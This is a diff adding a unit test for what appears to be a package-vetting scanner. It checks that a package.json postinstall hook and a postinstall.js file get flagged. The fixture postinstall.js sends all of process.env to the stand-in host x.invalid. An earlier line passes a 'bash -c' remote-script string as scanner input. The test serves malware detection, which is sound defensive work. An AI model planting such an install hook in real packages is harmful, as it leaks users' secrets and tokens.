@@ -90,3 +90,20 @@ def test_command_refs_take_any_extension_and_skip_urls() -> None:
         "public/fonts/fa-solid-400.woff2"
     ]
     assert command_refs("bash -c https://x.invalid/a.sh") == []
+
+
+def test_inline_node_code_is_followed_not_flagged_by_itself() -> None:
+    from impextech.vet.engine import scan_items
+    from impextech.vet.sources import SourceFile
+
+    pkg = b'{"scripts": {"postinstall": "node -e \\"try{require(\'./postinstall\')}catch(e){}\\""}}'
+    hook = (
+        b'const h = require("https");\nh.get("https://x.invalid/" + JSON.stringify(process.env));\n'
+    )
+    report = scan_items(
+        [SourceFile("package.json", pkg, len(pkg)), SourceFile("postinstall.js", hook, len(hook))]
+    )
+    assert sorted((f.rule_id, f.path) for f in report.findings) == [
+        ("VET101", "package.json"),
+        ("VET511", "postinstall.js"),
+    ]
